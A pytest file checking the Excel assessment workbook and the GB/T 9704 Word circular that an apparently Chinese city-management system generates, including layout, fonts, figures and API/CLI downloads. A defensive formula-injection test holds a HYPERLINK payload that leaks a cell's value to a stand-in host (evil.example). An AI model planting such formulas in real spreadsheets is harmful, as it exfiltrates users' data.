"""The assessment reports over the hand-made October history of the tiny city: the Excel workbook
(the same figures as the JSON, percentages formatted, a 12-month trend chart) and the Word circular
(an official document per GB/T 9704 naming the figures, the ranking, the best and worst units
and the overdue cases), through the service, the CLI and the API downloads."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from docx import Document
from docx.document import Document as DocumentObject
from docx.oxml.ns import qn
from docx.text.paragraph import Paragraph
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import Engine
from typer.testing import CliRunner

from tests.api.conftest import Clock, build_city_with_users
from tests.factories import CITY, cli_database, local
from tests.integration.test_assessment import enter_zf_spot_checks, store_history
from tests.unit.test_assessment import CONFIG, History, build_history, by_key
from xiuhua.app import create_app
from xiuhua.cli import app as cli_app
from xiuhua.config import Settings
from xiuhua.domain.assessment import RewardBand
from xiuhua.reports import MEDIA_TYPES, excel, make_template, render_report
from xiuhua.services import assessment as service
from xiuhua.services.city import load_city
from xiuhua.store.cases import insert_cases
from xiuhua.store.db import transaction

AT = local("2026-11-03 09:00")
CHART_NS = "http://schemas.openxmlformats.org/drawingml/2006/chart"
CHINESE_FONTS = set(make_template.FONTS)


@pytest.fixture
def history() -> History:
    return build_history()


@pytest.fixture
def stored(sqlite_engine: Engine, history: History) -> Engine:
    store_history(sqlite_engine, history)
    return sqlite_engine


def report(engine: Engine, period: str, fmt: str, at: Any = AT, data_dir: Path | None = None) -> bytes:
    with transaction(engine) as session:
        found = service.report_input(session, load_city(session), period, fmt, CONFIG, at)
    return render_report(found, data_dir)


def figures(engine: Engine, period: str) -> dict[str, Any]:
    with transaction(engine) as session:
        return service.assess_period(session, load_city(session), period, CONFIG, AT)


# --- the workbook -------------------------------------------------------------------------------


def sheet_rows(ws: Worksheet) -> list[dict[str, Any]]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_workbook_has_a_sheet_per_subject_with_chinese_headers(stored: Engine) -> None:
    book = load_workbook(io.BytesIO(report(stored, "2026-10", "xlsx")))
    assert book.sheetnames == ["概况", "处置单位", "区域", "监督员", "指挥中心人员", "高发问题", "扣分加分",
                               "更正", "近12个月趋势"]
    units = book["处置单位"]
    assert [c.value for c in units[1]] == [
        "单位代码", "单位名称", "派遣数", "处置数", "按期处置数", "超期未处置数", "应处置数", "退回数", "返工数",
        "核查通过数", "结案数", "按期结案数", "应结案数", "督办数", "评价数", "满意数", "按期处置率", "返工率",
        "结案率", "按期结案率", "满意率", "扣分", "加分", "得分", "等级", "排名", "样本不足", "奖补金额（元）"]
    for ws in book.worksheets[1:]:
        assert ws.freeze_panes is not None and ws.freeze_panes.endswith("2"), ws.title  # header row frozen
    assert units.freeze_panes == "C2"  # and the unit's code and name
    assert units.column_dimensions["B"].width >= len("城市管理综合执法局") * 2  # fitted to the names
    assert book["概况"]["B1"].value == "2026-10"


def test_every_figure_of_the_json_is_in_its_sheet_unrounded(stored: Engine) -> None:
    enter_zf_spot_checks(stored)
    expected = figures(stored, "2026-10")
    book = load_workbook(io.BytesIO(report(stored, "2026-10", "xlsx")))
    for spec in excel.SHEETS:
        ws = book[spec.title]
        keys = {c.key for c in spec.columns}
        rows = sheet_rows(ws)
        assert len(rows) == len(expected[spec.key]), spec.title
        for json_row, cells in zip(expected[spec.key], rows, strict=True):
            assert set(json_row) - keys <= {"kind"}, spec.title  # every JSON column (kind: by its label)
            for column in spec.columns:
                value = json_row.get(column.key)
                if isinstance(value, int | float) and not isinstance(value, bool):  # 16 significant digits
                    assert cells[column.header] == pytest.approx(value, rel=1e-15), (spec.title, column.key)
    hw = by_key(sheet_rows(book["处置单位"]), "单位代码")["U-HW"]
    assert hw["返工率"] == pytest.approx(1 / 6, rel=1e-15)
    assert (hw["得分"], hw["等级"], hw["排名"], hw["样本不足"]) == (80.0, "B", 1, "否")
    entries = sheet_rows(book["扣分加分"])
    assert [(r["类型"], r["分值"]) for r in entries] == [("扣分", 10), ("扣分", 2.5), ("加分", 0.5)]
    assert by_key(sheet_rows(book["区域"]), "区域代码")[CITY]["层级"] == "市"


def test_text_from_data_is_never_a_formula_in_the_workbook(stored: Engine) -> None:
    """Formula injection: an entry's item that a spreadsheet would evaluate stays text; a
    penalty (negative reward) stays a number."""
    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
    with transaction(stored) as session:
        city = load_city(session)
        for item in (leak, "+1 门前三包", "-2 乱堆物料", "@SUM(A1)"):
            service.add_entry(session, city, "deduction", "U-ZF", date(2026, 10, 28), item, 1, AT, "leader01")
        service.set_reward_bands(session, "2026-10", [RewardBand(1, 1, 1000), RewardBand(2, 9, -500.5)], AT,
                                 "leader01")
    book = load_workbook(io.BytesIO(report(stored, "2026-10", "xlsx")))
    items = [row for row in book["扣分加分"].iter_rows(min_row=2) if row[5].value]
    assert [c.value for c in (r[5] for r in items)] == [leak, "+1 门前三包", "-2 乱堆物料", "@SUM(A1)"]
    assert all(r[5].data_type == "s" and r[5].quotePrefix for r in items)  # text shown as typed
    assert not [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]  # no formula anywhere
    rewards = [row[27] for row in book["处置单位"].iter_rows(min_row=2) if row[27].value is not None]
    assert sorted((c.value, c.data_type) for c in rewards) == [(-500.5, "n"), (1000, "n")]


def test_percentages_are_formatted_as_percentages(stored: Engine) -> None:
    book = load_workbook(io.BytesIO(report(stored, "2026-10", "xlsx")))
    rate_headers = {"按期处置率", "返工率", "结案率", "按期结案率", "满意率", "有效上报率", "按时核查率",
                    "按时立案率", "按时派遣率", "派遣准确率"}
    checked = 0
    for ws in book.worksheets[1:]:
        for index, header in enumerate(c.value for c in ws[1]):
            for cell in ws.iter_cols(min_col=index + 1, max_col=index + 1, min_row=2).__next__():
                assert ("%" in cell.number_format) == (header in rate_headers), (ws.title, header)
                checked += header in rate_headers
    assert checked > 20
    assert book["处置单位"]["X2"].number_format == "0.00"  # the score


def test_the_trend_sheet_charts_the_last_twelve_months(stored: Engine) -> None:
    data = report(stored, "2026-10", "xlsx")
    trend = sheet_rows(load_workbook(io.BytesIO(data))["近12个月趋势"])
    assert [r["月份"] for r in trend] == [f"2025-{m}" for m in (11, 12)] + [f"2026-{m:02d}" for m in range(1, 11)]
    september, october = trend[-2], trend[-1]
    assert (september["受理数"], september["立案数"], september["结案数"], september["按期结案率"]) == (1, 1, 0, None)
    assert (october["受理数"], october["立案数"], october["结案数"], october["按期结案数"], october["超期未结数"],
            october["按期结案率"]) == (13, 12, 11, 9, 1, 0.75)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        charts = [n for n in package.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        chart = ElementTree.fromstring(package.read(charts[0]))
    lines = list(chart.iter(f"{{{CHART_NS}}}lineChart"))  # the counts, and the rate on its own axis
    assert [len(list(line.iter(f"{{{CHART_NS}}}ser"))) for line in lines] == [3, 1]
    refs = [f.text for f in chart.iter(f"{{{CHART_NS}}}f")]
    assert "'近12个月趋势'!B1" in refs and "'近12个月趋势'!$G$2:$G$13" in refs


def test_the_trend_stops_at_the_current_month(stored: Engine) -> None:
    trend = sheet_rows(load_workbook(io.BytesIO(report(stored, "2026Q4", "xlsx")))["近12个月趋势"])
    assert [r["月份"] for r in trend][-2:] == ["2026-10", "2026-11"]  # December has not begun on 3 November


# --- the circular -------------------------------------------------------------------------------


def circular(engine: Engine, period: str = "2026-10", at: Any = AT, data_dir: Path | None = None) -> DocumentObject:
    return Document(io.BytesIO(report(engine, period, "docx", at, data_dir)))


def all_text(doc: DocumentObject) -> str:
    parts = [p.text for p in doc.paragraphs]
    parts += [cell.text for table in doc.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def table(doc: DocumentObject, first_header: str) -> list[list[str]]:
    for found in doc.tables:
        rows = [[cell.text for cell in row.cells] for row in found.rows]
        if rows[0][0] == first_header:
            return rows
    raise AssertionError(f"no table starting with {first_header}")


def paragraph_with(doc: DocumentObject, fragment: str) -> Paragraph:
    return next(p for p in doc.paragraphs if fragment in p.text)


def test_the_circular_names_the_figures_of_the_month(stored: Engine, history: History) -> None:
    doc = circular(stored)
    text = all_text(doc)
    assert "{{" not in text and "{%" not in text
    assert paragraph_with(doc, "考核情况的通报").text.replace("\n", "") == "关于2026年10月城市管理工作考核情况的通报"
    assert paragraph_with(doc, "城管通").text == "测试城管通〔2026〕10号"
    assert paragraph_with(doc, "文件").text == "测试市城市管理指挥中心文件"
    summary = paragraph_with(doc, "全市共受理").text
    assert summary == ("2026年10月，全市共受理城市管理问题13件，较上月增加12件（增长1200.0%）；立案12件，"
                       "较上月增加11件（增长1100.0%）；结案11件，较上月增加11件；按期结案率75.00%，"
                       "上月无可比数据。截至期末，超期未结案件1件。")
    assert table(doc, "序号")[1:] == [["1", "暴露垃圾", "6", "50.00%"], ["2", "乱堆杂物", "5", "41.67%"],
                                      ["3", "非法小广告", "1", "8.33%"]]
    assert paragraph_with(doc, "居前3位").text == (
        "全市立案数量居前3位的问题依次为：暴露垃圾（6件）、乱堆杂物（5件）、非法小广告（1件）。")
    assert table(doc, "街道（片区）")[1] == ["测试街道", "13", "12", "11", "1", "75.00%"]
    assert "2026年11月3日" in text and "抄送：测试市人民政府办公室。" in text


def test_the_circular_ranks_the_units_and_names_the_best_and_the_worst(stored: Engine) -> None:
    doc = circular(stored)
    ranking = table(doc, "名次")
    assert ranking[0] == ["名次", "单位", "应处置（件）", "按期处置率", "结案率", "返工率", "扣分", "加分", "得分",
                          "等级"]
    assert ranking[1:] == [["1", "城市管理综合执法局", "5", "80.00%", "100.00%", "0.00%", "0", "0", "92.00", "A"],
                           ["2", "环卫中心", "8", "75.00%", "83.33%", "16.67%", "0", "0", "80.00", "B"]]
    assert paragraph_with(doc, "得分最高").text == (
        "本期得分最高的单位是城市管理综合执法局（92.00分），予以通报表扬；得分最低的单位是环卫中心（80.00分），"
        "请认真分析原因，切实整改。")
    assert paragraph_with(doc, "1. 测试街道办事处").text == (
        "1. 测试街道办事处：派遣1件，应处置1件，按期处置1件，结案1件。")
    assert "另有1个单位样本不足" in paragraph_with(doc, "纳入考核的处置单位").text
    assert "本期无考核检查扣分、加分。" in all_text(doc)


def test_the_circular_lists_the_overdue_cases_with_their_units(stored: Engine, history: History) -> None:
    doc = circular(stored)
    overdue = next(rows for rows in ([[c.text for c in r.cells] for r in t.rows] for t in doc.tables)
                   if rows[0][1] == "案件编号")
    assert overdue[1:] == [["1", history.no("C5"), "暴露垃圾", "环卫中心", "2026-10-27 14:40", "4天9小时"]]
    assert paragraph_with(doc, "超期未处置案件1件").text == (
        "截至期末，1个单位共有超期未处置案件1件，请相关单位限期处置：")


def test_tied_units_are_named_together_and_spot_checks_are_listed(stored: Engine) -> None:
    enter_zf_spot_checks(stored)  # U-ZF: 92 − 12.5 + 0.5 = 80, tied with U-HW
    doc = circular(stored)
    assert [row[0] for row in table(doc, "名次")[1:]] == ["1", "1"]
    assert paragraph_with(doc, "得分最高").text == "本期得分最高的单位是环卫中心、城市管理综合执法局（均为80.00分）。"
    assert paragraph_with(doc, "本期考核检查扣分、加分共").text == "本期考核检查扣分、加分共3项："
    assert table(doc, "单位")[1:] == [
        ["城市管理综合执法局", "扣分", "门前三包检查", "2026-10-28", "10", ""],
        ["城市管理综合执法局", "扣分", "门前三包检查", "2026-10-28", "2.5", ""],
        ["城市管理综合执法局", "加分", "主动发现并处置", "2026-10-28", "0.5", ""]]


def test_a_late_entry_is_listed_as_an_adjustment_in_the_next_circular(stored: Engine) -> None:
    with transaction(stored) as session:
        city = load_city(session)
        service.publish(session, city, "2026-10", CONFIG, local("2026-11-03 09:00"), "leader01")
        service.add_entry(session, city, "deduction", "U-HW", date(2026, 10, 20), "垃圾未清运", 3,
                          local("2026-11-05 10:00"), "leader01")
    november = circular(stored, "2026-11", local("2026-12-02 09:00"))
    assert table(november, "单位")[1:] == [["环卫中心", "扣分", "垃圾未清运", "2026-10-20", "3", "调整2026-10考核"]]
    assert paragraph_with(november, "本期考核检查扣分、加分共").text == (
        "本期考核检查扣分、加分共1项，其中对已发布考核周期的调整1项：")
    assert paragraph_with(november, "城管通").text == "测试城管通〔2026〕11号"
    october = all_text(circular(stored, "2026-10", local("2026-12-02 09:00")))
    assert "92.00" in october and "本期无考核检查扣分、加分。" in october  # frozen when published


def test_a_running_month_says_how_far_its_figures_go(stored: Engine) -> None:
    doc = circular(stored, "2026-10", local("2026-10-20 12:00"))
    assert paragraph_with(doc, "全市共受理").text.startswith("2026年10月（数据截至2026年10月20日12:00），")


def test_a_quarter_gets_its_own_title_and_number(stored: Engine) -> None:
    doc = circular(stored, "2026Q4", local("2027-01-05 09:00"))
    title = paragraph_with(doc, "考核情况的通报").text
    assert title == "关于2026年第四季度城市管理工作\n考核情况的通报"  # two balanced lines
    assert paragraph_with(doc, "城管").text == "测试城管季通〔2026〕4号"
    assert "较上季度" in paragraph_with(doc, "全市共受理").text


def east_asian_font(doc: DocumentObject, paragraph: Paragraph, run: Any) -> str | None:
    """The font Word uses for the run's Chinese text: the run's, else its style chain's, else the default."""
    candidates = [run._r.rPr]
    style = paragraph.style
    while style is not None:
        candidates.append(style.element.rPr)
        style = style.base_style
    candidates.append(doc.styles.element.find(qn("w:docDefaults")).find(qn("w:rPrDefault")).find(qn("w:rPr")))
    for rpr in candidates:
        fonts = rpr.find(qn("w:rFonts")) if rpr is not None else None
        if fonts is not None and (fonts.get(qn("w:eastAsia")) or fonts.get(qn("w:eastAsiaTheme"))):
            return fonts.get(qn("w:eastAsia")) if fonts.get(qn("w:eastAsiaTheme")) is None else None
    return None


def test_the_circular_is_laid_out_as_an_official_document(stored: Engine) -> None:
    doc = circular(stored)
    section = doc.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)  # A4
    assert [round(m.mm) for m in (section.top_margin, section.bottom_margin, section.left_margin,
                                  section.right_margin)] == [37, 35, 28, 26]
    assert section._sectPr.find(qn("w:docGrid")).get(qn("w:linePitch")) == "579"  # 22 lines
    paragraphs = list(doc.paragraphs) + [p for t in doc.tables for r in t.rows for c in r.cells for p in c.paragraphs]
    fonts = {east_asian_font(doc, p, r) for p in paragraphs for r in p.runs if r.text.strip()}
    assert fonts <= CHINESE_FONTS and {"仿宋_GB2312", "方正小标宋简体", "黑体", "楷体_GB2312"} <= fonts
    styles = doc.styles
    assert styles["公文正文"].font.size.pt == 16 and styles["公文标题"].font.size.pt == 22
    assert styles["发文机关标志"].font.color.rgb == make_template.RED
    assert paragraph_with(doc, "考核情况的通报").style.name == "公文标题"
    assert paragraph_with(doc, "一、总体情况").style.name == "一级标题"
    assert paragraph_with(doc, "（一）高发问题").style.name == "二级标题"
    footer = section.footer.paragraphs[0]
    assert footer.text == "— 1 —" and "PAGE" in footer._p.xml and styles["页码"].font.size.pt == 14
    assert section.even_page_footer.paragraphs[0].text == "— 1 —"


def test_the_fonts_fall_back_to_those_windows_and_wps_ship(stored: Engine) -> None:
    with zipfile.ZipFile(io.BytesIO(report(stored, "2026-10", "docx"))) as package:
        table_xml = package.read("word/fontTable.xml").decode()
    assert '<w:font w:name="仿宋_GB2312"><w:altName w:val="FangSong"/>' in table_xml
    assert '<w:font w:name="楷体_GB2312"><w:altName w:val="KaiTi"/>' in table_xml


def test_the_shipped_template_is_the_one_the_code_builds() -> None:
    assert make_template.build() == make_template.TEMPLATE.read_bytes()


def test_an_office_template_in_the_data_directory_is_used(stored: Engine, tmp_path: Path) -> None:
    own = Document()
    own.add_paragraph("{{ title }}（本市格式）")
    own.save(str(tmp_path / "circular.docx"))
    doc = circular(stored, data_dir=tmp_path)
    assert doc.paragraphs[0].text.replace("\n", "") == "关于2026年10月城市管理工作考核情况的通报（本市格式）"


def test_names_with_markup_characters_are_escaped(stored: Engine) -> None:
    with transaction(stored) as session:
        service.add_entry(session, load_city(session), "bonus", "U-HW", date(2026, 10, 28), "<b>清运</b> & 保洁\x07",
                          1, local("2026-10-31 17:00"), "leader01")
    assert table(circular(stored), "单位")[1][2] == "<b>清运</b> & 保洁 "


# --- the command line and the API -----------------------------------------------------------------

runner = CliRunner()


@pytest.fixture
def cli_db(stored: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
    monkeypatch.chdir(tmp_path)
    yield from cli_database(stored, tmp_path / "data", monkeypatch)


def test_the_cli_writes_the_workbook_and_the_circular(cli_db: Engine, tmp_path: Path) -> None:
    result = runner.invoke(cli_app, ["assess", "--period", "2026-10", "--format", "xlsx"])
    assert result.exit_code == 0, result.output
    assert "考核报表已写入 assessment-2026-10.xlsx" in result.output
    assert load_workbook(tmp_path / "assessment-2026-10.xlsx")["处置单位"]["A2"].value == "U-ZF"
    out = tmp_path / "通报.docx"
    result = runner.invoke(cli_app, ["assess", "--period", "2026-10", "--format", "docx", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "城市管理综合执法局" in all_text(Document(str(out)))
    bad = runner.invoke(cli_app, ["assess", "--period", "2026-13", "--format", "docx"])
    assert bad.exit_code == 1 and "考核周期“2026-13”无效" in bad.output


@pytest.fixture
def client(engine: Engine, tmp_path: Path) -> Iterator[tuple[TestClient, dict[str, str]]]:
    clock = Clock(AT)
    tokens = build_city_with_users(engine, clock())
    with transaction(engine) as session:
        insert_cases(session, list(build_history().cases.values()))
    app = create_app(Settings(data_dir=tmp_path / "data", secret_key="test-secret"), clock=clock, engine=engine,
                     migrate=False)
    with TestClient(app) as test_client:
        yield test_client, tokens


API = "/api/v1/assessment"


@pytest.mark.parametrize(("path", "fmt"), [("/2026-10/workbook.xlsx", "xlsx"), ("/2026-10/circular.docx", "docx")])
def test_every_signed_in_user_downloads_the_reports(client: tuple[TestClient, dict[str, str]], path: str,
                                                    fmt: str) -> None:
    http, tokens = client
    for login in ("handler_zf", "inspector02", "leader01"):
        r = http.get(f"{API}{path}", headers={"Authorization": f"Bearer {tokens[login]}"})
        assert r.status_code == 200, r.text
        assert r.headers["content-type"] == MEDIA_TYPES[fmt]
        assert r.headers["content-disposition"] == f'attachment; filename="assessment-2026-10.{fmt}"'
    opened = load_workbook(io.BytesIO(r.content))["处置单位"] if fmt == "xlsx" else None
    if opened is not None:
        assert opened["B2"].value == "城市管理综合执法局"
    else:
        assert "城市管理综合执法局（92.00分）" in all_text(Document(io.BytesIO(r.content)))
    assert http.get(f"{API}{path}").status_code == 401
    leader = {"Authorization": f"Bearer {tokens['leader01']}"}
    bad = http.get(f"{API}{path.replace('2026-10', '2026-1')}", headers=leader)
    assert bad.status_code == 422 and bad.json()["code"] == "invalid_request"
